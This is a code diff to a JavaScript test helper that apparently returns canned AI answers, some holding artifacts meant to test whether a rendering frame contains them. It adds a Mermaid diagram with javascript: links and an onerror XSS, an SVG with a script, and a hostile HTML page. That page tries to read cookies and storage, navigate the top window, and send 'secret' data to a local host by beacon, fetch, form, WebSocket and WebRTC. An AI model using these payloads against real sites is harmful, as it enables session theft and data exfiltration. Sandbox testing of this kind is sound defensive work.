@@ -2,6 +2,8 @@
 
 export function canned(question, language) {
   const german = language === "de";
+  const made = artifact(question);
+  if (made !== undefined) return made;
   if (/headings|Überschriften/u.test(question)) {
     return german
       ? "Drei Vorschläge:\n\n1. **Zwei Teams, ein Auftrag**\n2. Was sich ändert, und was bleibt\n3. Gemeinsam ab dem *ersten Quartal*\n"
@@ -27,6 +29,63 @@ export function canned(question, language) {
     : "A canal lock is a chamber with a gate at each end in which a boat is raised or lowered by letting water in or out. Only one gate is open at a time, so that the water on both sides stays where it is.";
 }
 
+
+const fence = (name, text) => `Here it is:\n\n\`\`\`${name}\n${text}\n\`\`\`\n`;
+
+/** What can be shown in a frame, honest and hostile. */
+function artifact(question) {
+  if (question.includes("broken diagram")) return fence("mermaid", "graph TD\n  A[[[ -->");
+  if (question.includes("hostile diagram")) {
+    return fence("mermaid", '%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(https://elsewhere.invalid/css) }"}}%%\ngraph TD\n  A["<img src=https://elsewhere.invalid/i.png onerror=top.hacked=1>"] --> B\n  click A href "javascript:top.hacked=1"\n  click B "https://elsewhere.invalid" _top');
+  }
+  if (question.includes("a diagram")) return fence("mermaid", "---\ntitle: Lock\n---\ngraph LR\n  Upper[Upper gate] --> Chamber --> Lower[Lower gate]\n  Chamber -- water --> Valley");
+  const [, version] = /web page (\d)/u.exec(question) ?? [];
+  if (version) return fence("html", `<!doctype html><title>Tolls</title><h1>Tolls ${version}</h1><button onclick="this.textContent='paid'">Pay</button>`);
+  if (question.includes("a drawing")) return fence("svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 90 30" width="270"><script>top.hacked=1</script><rect width="90" height="30" fill="#0b5763"/></svg>');
+  if (question.includes("broken program")) return fence("js", "document.body.append('begun'); missing();");
+  const [, port] = /hostile page (\d+)/u.exec(question) ?? [];
+  return port ? fence("html", hostilePage(port)) : undefined;
+}
+
+/** Tries every way out of a frame: to another computer, to the page around it, to the window. */
+function hostilePage(port) {
+  const at = `127.0.0.1:${port}`;
+  return `<!doctype html><title>Hostile</title>
+<link rel="preconnect" href="http://${at}"><link rel="dns-prefetch" href="http://${at}"><link rel="prefetch" href="http://${at}/prefetch"><link rel="stylesheet" href="http://${at}/s.css">
+<meta http-equiv="refresh" content="1;url=http://${at}/refresh"><base href="http://${at}/">
+<style>@import "http://${at}/import.css"; body { background: url(http://${at}/bg.png) } @font-face { font-family: x; src: url(http://${at}/f.woff2) } p { font-family: x }</style>
+<p>text</p><img src="http://${at}/i.png"><iframe src="http://${at}/frame"></iframe><object data="http://${at}/object"></object><embed src="http://${at}/embed"><video src="http://${at}/v.mp4"></video>
+<script src="http://${at}/x.js"></script><form id="f" action="http://${at}/form" method="post" target="_top"><input name="a" value="secret"></form>
+<a id="a" href="http://${at}/link" target="_top">top</a><a id="b" href="http://${at}/blank" target="_blank">blank</a><a id="p" href="http://${at}/self" ping="http://${at}/ping">self</a>
+<script>
+const done = {};
+const tried = (name, act) => { try { const value = act(); done[name] = value === undefined || value === null ? "nothing" : "got it"; } catch (error) { done[name] = error.name; } };
+tried("parent", () => parent.document.title);
+tried("top", () => { top.location.href = "http://${at}/top"; });
+tried("topHacked", () => { top.hacked = 1; });
+tried("cookie", () => document.cookie);
+tried("storage", () => localStorage.getItem("schleuse.language"));
+tried("cache", () => caches.open("x"));
+tried("popup", () => window.open("http://${at}/popup"));
+tried("form", () => document.getElementById("f").submit());
+tried("fetch", () => void fetch("http://${at}/fetch", { mode: "no-cors" }).catch(() => 0));
+tried("house", () => void fetch("/auth/session").catch(() => 0));
+tried("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", "http://${at}/xhr"); x.send(); });
+tried("socket", () => void new WebSocket("ws://${at}/socket"));
+tried("events", () => void new EventSource("http://${at}/events"));
+tried("beacon", () => navigator.sendBeacon("http://${at}/beacon", "secret") || undefined);
+tried("worker", () => void new Worker(URL.createObjectURL(new Blob(["fetch('http://${at}/worker')"]))));
+tried("import", () => void import("http://${at}/module.js").catch(() => 0));
+tried("picture", () => { new Image().src = "http://${at}/late.png"; });
+const rtc = (view) => { const c = new view.RTCPeerConnection({ iceServers: [{ urls: "stun:${at}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); };
+tried("rtc", () => rtc(window));
+tried("inner", () => { const inner = document.createElement("iframe"); inner.srcdoc = "<script>const c = new RTCPeerConnection({iceServers:[{urls:'stun:${at}'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); new Image().src='http://${at}/inner.png'<\\/script>"; document.body.append(inner); });
+tried("hint", () => { const link = document.createElement("link"); link.rel = "preconnect"; link.href = "http://${at}"; document.head.append(link); });
+for (const id of ["a", "b", "p"]) tried(id, () => document.getElementById(id).click());
+parent.postMessage({ frame: "schleuse", height: 1e9, failed: ["parent", "topHacked", "cookie", "storage", "popup", "hint", "rtc"].map((name) => name + "=" + done[name]).join(" ") + " <img src=x onerror=top.hacked=1>" }, "*");
+setTimeout(() => { location.href = "http://${at}/location"; }, 1500);
+</script>`;
+}
 
 /** Everything that models write, in turn, until there is so much of it. */
 export function lengthy(kilobytes, what = "everything") {
